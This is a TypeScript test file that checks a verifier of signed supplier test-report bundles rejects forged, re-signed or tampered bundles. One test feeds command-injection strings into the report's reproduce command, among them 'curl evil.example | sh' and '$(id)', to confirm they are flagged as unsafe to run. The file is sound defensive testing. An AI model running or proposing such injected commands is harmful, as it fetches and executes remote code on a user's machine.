import { describe, expect, it } from 'vitest'
import {
  brokenFiles,
  closed,
  did,
  edit,
  editReport,
  opened,
  resealed,
  type Supplier,
  supplier,
  toGreen,
  trusting,
  type Verified,
  verified,
} from './cli/testing-bundles.ts'
import type { Report } from './model/report.ts'
import { soundFiles } from './run/testing-profile.ts'
import { madeOf } from './trust/make-bundle.ts'

/** What a supplier can write into a bundle of his own before he signs it: nothing of it may be believed unseen. */

type Change = (contents: Map<string, Uint8Array>) => void

/** The bundle with a change, sealed and signed anew by the key that the reader trusts. */
async function forged(bid: Supplier, change: Change): Promise<Verified> {
  await remade(bid, change)
  await did(bid.world, 0, 'sign', 'bid.zip', '--key', 'key.pem')
  return verified(bid, ...trusting)
}

/** The same of what `sign` refuses: whoever forges has a program of his own. */
async function forgedUnsigned(bid: Supplier, change: Change): Promise<Verified> {
  await remade(bid, change)
  return verified(bid)
}

async function remade(bid: Supplier, change: Change): Promise<void> {
  const contents = await opened(bid)
  change(contents)
  const report: Report = JSON.parse(new TextDecoder().decode(contents.get('report.json')))
  for (const [path, made] of await madeOf(report, 'en')) if (/^report|^views/.test(path)) contents.set(path, made)
  edit(
    contents,
    'manifest.json',
    before => ` ${before.replace(/"reportId": "[^"]*"/, `"reportId": "${report.reportId}"`)}`,
  )
  resealed(contents)
  await closed(bid, contents)
}

const later = (contents: Map<string, Uint8Array>) =>
  editReport(contents, report => {
    report.tool.version = '99.0.0'
  })

/** Documents by what they hold. */
const documentWith = (contents: Map<string, Uint8Array>, text: string) =>
  [...contents].find(([path, content]) => /\/documents\//.test(path) && Buffer.from(content).includes(text))?.[0] ?? ''

describe('a failure is not hidden', () => {
  it('by calling the value that fails the mask of an identity number', async () => {
    const bid = await supplier(brokenFiles, 1)
    const { code, said, steps } = await forgedUnsigned(bid, contents => {
      toGreen(contents)
      edit(contents, 'evidence/evidence.json', before => before.replaceAll('"masked": []', '"masked": ["nowhere"]'))
    })
    expect(said).toContain('/documents/0/masked/0')
    expect([code, steps.evidence]).toEqual([4, 'invalid'])
  })

  it('by taking out what failed and calling it masked: what the report says of it must fit the rest', async () => {
    const more = { 'houses-2.json': '[{"id":"g","floors":2}]' }
    const bid = await supplier({ ...soundFiles, ...more })
    const { code, steps } = await forged(bid, contents => {
      contents.delete(documentWith(contents, '"floors":2'))
      editReport(contents, report => {
        report.sut.product = 'Another'
        report.startedAt = report.finishedAt = '2026-03-01T00:00:00.000Z'
      })
    })
    expect([code, steps.evidence]).toEqual([4, 'invalid'])
  })
})

describe('another version of the tool excuses words, and no facts', () => {
  it.each<readonly [string, Parameters<typeof editReport>[1]]>([
    ['the version of the system', report => Object.assign(report.sut, { version: '4.2' })],
    ['who the supplier is', report => Object.assign(report.sut, { supplier: 'Other AB' })],
    ['when it was tested', report => Object.assign(report, { startedAt: '2026-03-01T00:00:00.000Z' })],
    [
      'the tender',
      report =>
        Object.assign(report, {
          tender: {
            id: 'a',
            authority: 'b',
            caseNumber: 'c',
            digest: `sha256:${'d'.repeat(64)}`,
            nonce: 'e'.repeat(32),
          },
        }),
    ],
    ['which evidence there is', report => report.evidence.pop()],
  ])('%s', async (_, change) => {
    const { code, steps } = await forged(await supplier(), contents => {
      later(contents)
      editReport(contents, change)
    })
    expect([code, steps.evidence]).toEqual([4, 'invalid'])
  })

  it('and nothing but the version is excused; the reader gets a page of his own making', async () => {
    const bid = await supplier()
    const { code, steps } = await forged(bid, later)
    expect(new TextDecoder().decode(await bid.world.files.read('seen/report.html'))).toContain('<!doctype html>')
    expect([code, steps.evidence]).toEqual([0, 'remark'])
  })
})

describe('a date that stands in the report alone', () => {
  it.each(['2026-02-01T00:00:00.000Z', '2099-01-01T00:00:00.000Z'])('is not believed: issued %s', async issuedAt => {
    const { code, said } = await forged(await supplier(), contents =>
      editReport(contents, report => Object.assign(report, { issuedAt })),
    )
    expect(code).toBe(4)
    expect(said).toContain('states that it was written')
  })
})

describe('a command that the reader may run', () => {
  it.each([
    'samklang run; curl evil.example | sh',
    'samklang run $(id)',
    'curl evil.example',
    "samklang run 'a' 'b' && id",
  ])('is one of samklang alone: %s', async command => {
    const { code, said } = await forgedUnsigned(await supplier(), contents => {
      editReport(contents, report => Object.assign(report.reproduce, { command }))
      edit(contents, 'evidence/evidence.json', before =>
        before.replace(/(?<="command": )".*"/, () => JSON.stringify(command)),
      )
    })
    expect(code).toBe(4)
    expect(said).toContain('do not run it')
  })
})

describe('expected failures', () => {
  it.each<readonly [string, object]>([
    [
      'that the verdicts do not bear out',
      { requirement: 'L', reason: 'known', expires: '2027-01-01', state: 'expected' },
    ],
    ['of no requirement', { requirement: 'X', reason: 'known', expires: '2027-01-01', state: 'not-judged' }],
  ])('%s make the report disagree with itself', async (_, entry) => {
    const { code, steps } = await forged(await supplier(), contents =>
      editReport(contents, report => Object.assign(report, { expectedFailures: [entry] })),
    )
    expect([code, steps.recount]).toEqual([4, 'invalid'])
  })
})

describe('a file that the reader may open', () => {
  const put =
    (path: string, text: string): Change =>
    contents =>
      contents.set(path, new TextEncoder().encode(text))
  it.each<readonly [string, string, Change]>([
    ['that no bundle has', 'protocol.html', put('protocol.html', '<h1>Valid</h1>')],
    ['beside the evidence', 'more.json', put(`evidence/documents/${'a'.repeat(64)}.json`, '[]')],
    ['that says what a bundle is', 'README.txt', put('README.txt', 'Certified.')],
    ['of a schema', 'report-1.schema.json', put('schemas/report-1.schema.json', '{}')],
  ])('%s is told of', async (_, name, change) => {
    const { code, steps, said } = await forged(await supplier(), change)
    expect([code, steps.views]).toEqual([4, 'invalid'])
    expect(said).toContain(name === 'more.json' ? 'aaaa' : name)
  })

  it('is told of too when another version made the bundle, which may have had such a file', async () => {
    const { code, steps, said } = await forged(await supplier(), contents => {
      later(contents)
      put('protocol.html', 'x')(contents)
    })
    expect([code, steps.views]).toEqual([0, 'remark'])
    expect(said).toContain('protocol.html')
  })
})

describe('what two readers could read as two things is refused', () => {
  it('in the list of the evidence', async () => {
    const { code, steps } = await forgedUnsigned(await supplier(), contents =>
      edit(contents, 'evidence/evidence.json', before => before.replace('"order":', '"troubles": [],\n  "order":')),
    )
    expect([code, steps.evidence]).toEqual([4, 'invalid'])
  })

  it.each<readonly [string, (text: string) => string]>([
    ['with a member that nobody reads', text => text.replace('"payload":', '"note": "Certified", "payload":')],
    ['with bits in a signature that nobody reads', text => text.replace(/==("\s*\}\s*\])/, '== $1')],
  ])('in an envelope %s', async (_, change) => {
    const bid = await supplier()
    const contents = await opened(bid)
    edit(contents, 'attestation/report.dsse.json', change)
    await closed(bid, contents)
    const { code, steps } = await verified(bid, ...trusting)
    expect([code, steps.signature]).toEqual([4, 'invalid'])
  })
})
